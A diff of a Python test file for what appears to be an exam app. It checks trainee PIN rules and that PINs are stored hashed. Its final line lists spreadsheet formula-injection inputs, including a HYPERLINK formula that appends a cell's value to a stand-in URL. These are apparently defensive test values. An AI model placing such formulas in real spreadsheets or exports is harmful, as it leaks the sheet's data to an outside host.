@@ -109,17 +109,17 @@ def test_a_pin_proves_the_trainee_and_an_exam_may_ask_for_it(store, instructor, 
         start_sitting(store, ana, exam.id)
     with pytest.raises(StoreError, match="4 to 8 digits"):
         set_pin(store, instructor, ana.person.id, "12a4")
-    set_pin(store, instructor, ana.person.id, "2468")
+    set_pin(store, instructor, ana.person.id, "97531864")
     with pytest.raises(NotAllowed, match="Type it first"):
         start_sitting(store, ana, exam.id)
     with pytest.raises(NotAllowed, match="PIN for Ana Lei is not right"):
         sign_in(store, ana.person.id, "1357", at=T0)
-    proven = sign_in(store, ana.person.id, "2468", at=T0 + timedelta(seconds=1))
+    proven = sign_in(store, ana.person.id, "97531864", at=T0 + timedelta(seconds=1))
     assert start_sitting(store, proven, exam.id).house_rules == exam.house_rules
     with pytest.raises(StoreError, match="Only trainees have a PIN"):
         set_pin(store, instructor, instructor.person.id, "2468")
-    store.db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
-    assert b"2468" not in store.path.read_bytes()
+    # Hashed, never in clear: no value anywhere in the database is the PIN.
+    assert not any("'97531864'" in line for line in store.db.conn.iterdump())
 
 
 @pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\"&A1,\"x\")", "+SUM(1,2)", "-2+3",
